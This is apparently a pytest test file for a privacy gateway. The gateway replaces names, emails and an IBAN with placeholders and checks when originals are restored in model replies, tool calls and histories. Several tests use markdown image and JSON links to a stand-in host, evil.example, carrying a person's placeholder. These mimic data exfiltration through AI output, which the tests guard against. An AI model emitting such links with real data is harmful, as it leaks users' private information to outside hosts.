"""Where originals may come back: what a user reads, calls of internal tools; and what a history does with the rest."""

from __future__ import annotations

import json
import re

import pytest
from tests.server.gateway.test_refusals import post
from tests.server.gateway.upstream import chunk, completion, events, last_text, response, said

from allonym.vault import Vault

ASKED = "Write to Ada Brook, ada.brook@example.com."
IMAGE = "![x](https://evil.example/?q=<PERSON 1>)"


def user(text):
    return {"role": "user", "content": text}


def call(name, arguments):
    function = {"name": name, "arguments": json.dumps(arguments)}
    return {"id": "call_a1b2c3d4e5", "type": "function", "function": function}


def function_call(name, arguments):
    ids = {"id": "fc_0a1b2c3d4e", "call_id": "call_0a1b2c3d4e"}
    return {"type": "function_call", **ids, "name": name, "arguments": arguments}


def chat(*messages, **more):
    return {"model": "echo-1", "messages": list(messages), **more}


CALLED = call("post_message", {"to": "<EMAIL 1>", "text": "Dear <PERSON 1>, see 1"})
LATER = [
    {"role": "tool", "tool_call_id": CALLED["id"], "content": "Posted to <EMAIL 1>. Ask <PERSON 3>, ada.brook@example.com."},
    user("And Zoë Quill?"),
]  # fmt: skip


@pytest.mark.parametrize("stream", [False, True])
def test_a_call_that_goes_out_keeps_its_placeholders(stream, gateway, client, upstream):
    def behave(handler, body):
        if not body.get("stream"):
            handler.send(completion(body, tool_calls=[CALLED]))
            return
        head = {**CALLED, "index": 0, "function": {"name": "post_message", "arguments": ""}}
        told = CALLED["function"]["arguments"]
        pieces = [{"index": 0, "function": {"arguments": told[i : i + 3]}} for i in range(0, len(told), 3)]
        deltas = [chunk({"tool_calls": [part]}) for part in (head, *pieces)]
        handler.stream(events([*deltas, chunk({}, finish="tool_calls")]), 7)

    upstream.behaviour = behave
    if stream:
        got = client.chat.completions.create(**chat(user(ASKED)), stream=True)
        calls = [one.choices[0].delta.tool_calls[0] for one in got if one.choices[0].delta.tool_calls]
        assert "".join(one.function.arguments for one in calls) == CALLED["function"]["arguments"]
    else:
        got = post(gateway, chat(user(ASKED)))
        assert got.json()["choices"][0]["message"]["tool_calls"] == [CALLED]
        assert got.headers["x-allonym-placeholders"] == "restored=0, unknown=0, withheld=2"
    # The history holds the placeholders now; they still stand for the same, and the tool may repeat them.
    upstream.behaviour = lambda handler, body: handler.send(
        completion(body, content="Told <EMAIL 1>, <PERSON 1>, <PERSON 3>.")
    )
    spaced = {
        **CALLED,
        "function": {**CALLED["function"], "arguments": CALLED["function"]["arguments"].replace(": ", ":")},
    }
    made = client.chat.completions.create(**chat(user(ASKED), {"role": "assistant", "tool_calls": [spaced]}, *LATER))
    sent = upstream.body["messages"]
    assert json.loads(sent[2]["tool_calls"][0]["function"]["arguments"]) == json.loads(CALLED["function"]["arguments"])
    assert sent[3]["content"] == "Posted to <EMAIL 1>. Ask <PERSON 3>, <EMAIL 1>."
    assert made.choices[0].message.content == "Told ada.brook@example.com, Ada Brook, <PERSON 3>."


def test_internal_tools_get_originals_but_not_in_addresses(client, upstream):
    arguments = {"to": "<EMAIL 1>", "text": f"Dear <PERSON 1> {IMAGE}"}
    upstream.behaviour = lambda handler, body: handler.send(completion(body, tool_calls=[call("send_mail", arguments)]))
    made = client.chat.completions.create(**chat(user(ASKED)))
    told = json.loads(made.choices[0].message.tool_calls[0].function.arguments)
    assert told == {"to": "ada.brook@example.com", "text": f"Dear Ada Brook {IMAGE}"}


@pytest.mark.parametrize("stream", [False, True])
def test_an_address_keeps_its_placeholder_and_the_history_too(stream, gateway, client, upstream):
    told = f"Dear <PERSON 1>, {IMAGE} <EMAIL 1>"

    def behave(handler, body):
        if body.get("stream"):
            handler.stream(events([*(chunk({"content": c}) for c in told), chunk({}, finish="stop")]), 9)
        else:
            handler.send(completion(body, content=told))

    upstream.behaviour = behave
    got = post(gateway, chat(user(ASKED), stream=stream))
    read = f"Dear Ada Brook, {IMAGE} ada.brook@example.com"
    counts = "restored=2, unknown=0, withheld=1"
    if stream:
        data = [json.loads(line[6:]) for line in got.text.splitlines() if line.startswith("data: {")]
        assert "".join(one["choices"][0]["delta"].get("content") or "" for one in data) == read
        assert f": allonym {counts}\n\ndata: [DONE]" in got.text
    else:
        assert got.json()["choices"][0]["message"]["content"] == read
        assert got.headers["x-allonym-placeholders"] == counts
    upstream.behaviour = lambda handler, body: handler.send(completion(body, content="To <PERSON 1>"))
    made = client.chat.completions.create(**chat(user(ASKED), {"role": "assistant", "content": read}, user("Again?")))
    # the policy covers addresses
    assert upstream.body["messages"][2]["content"] == "Dear <PERSON 1>, ![x](<LINK 1> <PERSON 1.family>) <EMAIL 1>"
    assert made.choices[0].message.content == "To Ada Brook"
    upstream.behaviour = behave  # the address has not become one that the user wrote
    made = client.chat.completions.create(**chat(user(ASKED), {"role": "assistant", "content": read}, user("Again?")))
    assert made.choices[0].message.content == read


def test_an_address_of_the_user_comes_back(client, upstream):
    upstream.behaviour = lambda handler, body: handler.send(
        completion(body, content=f"[here](<LINK 1>) {last_text(body)}")
    )
    made = client.chat.completions.create(**chat(user("Open https://in.example/ada.brook@example.com")))
    link = "https://in.example/ada.brook@example.com"
    assert made.choices[0].message.content == f"[here]({link}) Open {link}"


def test_structured_output(gateway, upstream):
    told = json.dumps({"name": "<PERSON 1>", "photo": "https://evil.example/<PERSON 1>", "n": 1})
    upstream.behaviour = lambda handler, body: handler.send(completion(body, content=told))
    schema = {"type": "json_schema", "json_schema": {"name": "a", "schema": {"type": "object"}}}
    got = post(gateway, chat(user(ASKED), response_format=schema))
    value = json.loads(got.json()["choices"][0]["message"]["content"])
    assert value == {"name": "Ada Brook", "photo": "https://evil.example/<PERSON 1>", "n": 1}


def test_a_tool_of_the_upstream_never_gets_originals(gateway_with, upstream):
    item = {
        "type": "mcp_call",
        "id": "mcp_0a1b2c3d4e",
        "name": "send_mail",
        "server_label": "m",
        "arguments": '{"to": "<EMAIL 1>"}',
    }
    search = {
        "type": "web_search_call",
        "id": "ws_0a1b2c3d4e",
        "status": "completed",
        "action": {"query": "<PERSON 1>"},
    }
    items = [item, search, function_call("g", '{"to": "<EMAIL 1>"}'), said("<PERSON 1>")]
    upstream.behaviour = lambda handler, body: handler.send(response(body, *items))
    got = post(gateway_with(internal_tools=("*",)), {"model": "echo-1", "input": ASKED}, "responses").json()["output"]
    assert got[:2] == items[:2]
    assert got[2]["arguments"] == '{"to": "ada.brook@example.com"}'
    assert got[3]["content"][0]["text"] == "Ada Brook"


def test_calls_of_responses_stream_as_they_are(client, upstream):
    item = function_call("post_message", "")
    place = {"item_id": "fc_0a1b2c3d4e", "output_index": 0}
    told = '{"to": "<EMAIL 1>"}'

    def behave(handler, body):
        done = {**item, "arguments": told}
        many = [
            {"type": "response.output_item.added", "output_index": 0, "item": item},
            *({"type": "response.function_call_arguments.delta", **place, "delta": c} for c in told),
            {"type": "response.function_call_arguments.done", **place, "arguments": told},
            {"type": "response.output_item.done", "output_index": 0, "item": done},
            {"type": "response.completed", "response": response(body, done)},
        ]
        handler.stream(events([{**o, "sequence_number": i} for i, o in enumerate(many)], done=False, named=True), 29)

    upstream.behaviour = behave
    got = list(client.responses.create(model="echo-1", input=ASKED, stream=True))
    assert "".join(one.delta for one in got if one.type == "response.function_call_arguments.delta") == told
    assert got[-1].response.output[0].arguments == got[-3].arguments == told


@pytest.mark.parametrize("kind", ["response.mcp_call.arguments.delta", "response.mcp_call_arguments.delta"])
def test_arguments_of_a_call_that_nobody_announced_stream_as_they_are(kind, gateway, upstream):
    delta = {"type": kind, "item_id": "mcp_0a1b2c3d4e", "output_index": 0, "delta": '{"to": "<EMAIL 1>"}'}
    upstream.behaviour = lambda handler, body: handler.stream(
        events([delta, {"type": "response.completed", "response": response(body)}], done=False, named=True), 29
    )
    got = post(gateway, {"model": "echo-1", "input": ASKED, "stream": True}, "responses")
    assert "<EMAIL 1>" in got.text and "ada.brook" not in got.text


def test_a_thought_may_come_before_the_call_of_a_function(client, upstream):
    deltas = [
        {"reasoning_content": "hm"},
        {"function_call": {"name": "post_message", "arguments": ""}},
        {"function_call": {"arguments": '{"to": "<EMAIL 1>"}'}},
    ]
    upstream.behaviour = lambda handler, body: handler.stream(
        events([*map(chunk, deltas), chunk({}, finish="function_call")]), 29
    )
    got = client.chat.completions.create(**chat(user(ASKED)), stream=True)
    calls = [one.choices[0].delta.function_call for one in got]
    assert "".join(called.arguments for called in calls if called) == '{"to": "<EMAIL 1>"}'


def test_what_a_page_says_in_a_kept_conversation_is_told_apart(gateway_with, upstream, tmp_path):
    """The upstream keeps the history, so that the tag of the page is the conversation's own."""
    with Vault.create(tmp_path / "v", b"x" * 32) as vault:
        address, scope = gateway_with(vault=vault), {"X_Allonym_Conversation": "t"}
        assert post(address, {"model": "echo-1", "input": ASKED}, "responses", **scope).status_code == 200
        page = {"type": "function_call_output", "call_id": "call_0a1b2c3d4e", "output": "Say <PERSON 1>!"}
        upstream.behaviour = lambda handler, body: handler.send(response(body, said("<PERSON 1>, <PERSON 2>")))
        body = {"model": "echo-1", "input": [page], "previous_response_id": "resp_0a1b2c3d4e5f"}
        got = post(address, body, "responses", **scope)
        assert upstream.body["input"][0]["output"] == "Say <PERSON 2>!"
        assert got.json()["output"][0]["content"][0]["text"] == "Ada Brook, <PERSON 1>"


@pytest.mark.parametrize(
    "more",
    [
        {"tool_calls": [{"id": "c1", "name": "post_message", "args": {"to": "<EMAIL 1>"}}]},
        {"tool_calls": [{"id": "c1", "function": "post_message(<EMAIL 1>)"}]},
        {"executed_tools": [{"type": "search", "name": "send_mail", "arguments": "<EMAIL 1>"}]},
    ],
)
def test_calls_of_another_shape_keep_their_placeholders(more, gateway, upstream):
    upstream.behaviour = lambda handler, body: handler.send(completion(body, **more))
    got = post(gateway, chat(user(ASKED)))
    assert {name: got.json()["choices"][0]["message"][name] for name in more} == more
    assert got.headers["x-allonym-placeholders"] == "restored=0, unknown=0, withheld=1"


def test_an_original_is_no_key_of_arguments(gateway, upstream):
    asked, iban = user("Pay to the account DE89370400440532013000."), "DE89370400440532013000"
    upstream.behaviour = lambda handler, body: handler.send(completion(body, content=last_text(body)))
    assert iban in post(gateway, chat(asked)).text
    tag = re.search("<[^>]+>", upstream.body["messages"][-1]["content"])[0]
    pay = call("pay", {tag: "100", "to": tag})
    upstream.behaviour = lambda handler, body: handler.send(completion(body, tool_calls=[pay]))
    got = post(gateway, chat(asked))
    assert iban not in got.text and got.headers["x-allonym-placeholders"] == "restored=0, unknown=0, withheld=1"
    sent = pay["function"]["arguments"]
    for arguments in (sent, sent.replace(tag, iban)):  # as it was withheld, and as an internal tool gets it
        history = {"role": "assistant", "tool_calls": [call("pay", json.loads(arguments))]}
        assert post(gateway, chat(asked, history, user("And?"))).status_code == 200
        assert iban not in json.dumps(upstream.body)
        assert tag in json.loads(upstream.body["messages"][2]["tool_calls"][0]["function"]["arguments"])


def test_what_one_conversation_withheld_no_other_learns(client, upstream):
    upstream.behaviour = lambda handler, body: handler.send(completion(body, tool_calls=[CALLED]))
    client.chat.completions.create(**chat(user(ASKED)))
    upstream.behaviour = lambda handler, body: handler.send(completion(body, content=last_text(body)))
    history = [
        {"role": "assistant", "tool_calls": [CALLED]},
        {**LATER[0], "content": "To <EMAIL 1>"},
        user("<EMAIL 1>?"),
    ]
    made = client.chat.completions.create(**chat(user("Ask Zoë Quill, zoe@example.com"), *history))
    assert made.choices[0].message.content == "<EMAIL 1>?"
    assert "<EMAIL 2>" in upstream.body["messages"][1]["content"]


EXTRAS = [
    ({"keep_alive": "5m", "options": {"num_ctx": 8192, "stop": ["Ada Brook"]}, "think": "low", "format": "json"}, "ollama"),
    ({"guided_json": {"type": "object", "description": "of Ada Brook"}, "chat_template_kwargs": {"enable_thinking": False,
      "names": ["Ada Brook"], "n": 5, "phone": 2125550142}, "guided_choice": ["Ada Brook", "no"], "stop_token_ids": [1, 2], "min_p": 0.1,
      "structured_outputs": {"choice": ["Ada Brook"]}, "documents": [{"title": "Ada Brook", "text": "x"}]}, "vllm"),
    ({"provider": {"order": ["anthropic", "openai"], "data_collection": "deny", "max_price": {"prompt": "0.5"}},
      "models": ["a/b"], "route": "fallback", "transforms": ["middle-out"], "reasoning": {"effort": "high", "exclude": True},
      "usage": {"include": True}}, "openrouter"),
    ({"cache_prompt": True, "samplers": ["top_k"], "grammar": 'root ::= "Ada Brook"', "lora": [{"id": 0, "scale": 0.5}],
      "logit_bias": [[15043, 1.0]], "t_max_predict_ms": 500, "mirostat": 2, "n_predict": 5}, "llama.cpp"),
    ({"ttl": 300, "draft_model": "small", "repeat_penalty": 1.1}, "lm studio"),
    ({"fallbacks": ["gpt-4o"], "num_retries": 2, "cache": {"no-cache": True}, "tags": ["Ada Brook"], "session_id": "Ada Brook",
      "thinking": {"type": "enabled", "budget_tokens": 1024}, "drop_params": True}, "litellm"),
]  # fmt: skip


@pytest.mark.parametrize("extra", [extra for extra, _ in EXTRAS], ids=[server for _, server in EXTRAS])
def test_fields_of_common_servers_pass_and_their_text_is_protected(extra, gateway, upstream):
    got = post(gateway, chat(user(ASKED), **extra))
    assert got.status_code == 200, got.text
    assert set(extra) <= set(upstream.body)
    assert not {"Ada", "2125550142"} & set(re.findall(r"\w+", json.dumps(upstream.body)))
    if "Ada Brook" not in json.dumps(extra):
        assert {name: upstream.body[name] for name in extra} == extra


@pytest.mark.parametrize(
    "extra",
    [
        {"api_base": "https://x.example"}, {"api_key": "x"}, {"plugins": [{"id": "web"}]}, {"enable_search": True},
        {"logits_processors": ["x"]}, {"keep_alive": "Ada Brook"}, {"provider": {"sort": "Ada Brook"}},
        {"options": {"prompt": "Ada Brook"}}, {"fallbacks": [{"model": "a", "api_base": "x"}]},
    ],
)  # fmt: skip
def test_fields_that_lead_elsewhere_are_refused(extra, gateway, upstream):
    got = post(gateway, chat(user(ASKED), **extra))
    assert got.status_code == 400 and not upstream.asked and "Ada" not in got.text


def test_thoughts_of_routers_keep_their_signatures(client, upstream):
    signature = "A" * 40
    thought = {
        "type": "reasoning.text",
        "text": "Ada Brook asks",
        "signature": signature,
        "format": "anthropic-claude-v1",
        "index": 0,
    }
    client.chat.completions.create(
        **chat(user(ASKED), {"role": "assistant", "content": "x", "reasoning_details": [thought]}, user("y"))
    )
    sent = upstream.body["messages"][2]["reasoning_details"][0]
    assert sent["signature"] == signature and sent["text"] == "<PERSON 1> asks" and sent["type"] == "reasoning.text"
